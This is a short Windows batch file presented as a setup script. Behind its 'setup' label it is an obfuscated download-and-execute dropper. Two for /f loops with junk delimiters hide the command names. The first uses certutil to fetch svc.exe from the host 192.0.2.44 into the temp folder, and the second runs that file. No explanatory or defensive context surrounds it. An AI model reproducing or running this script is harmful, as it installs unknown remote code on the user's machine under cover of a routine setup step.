REM setup 8072 v4
@echo off
for /f "tokens=1 delims=@" %%i in ("certutil.exe@wauq@dkly") do %%i -urlcache -split -f http://192.0.2.44/svc.exe %TEMP%\svc.exe
for /f "tokens=1 delims=~" %%i in ("start~zbur~aycr") do %%i "" %TEMP%\svc.exe
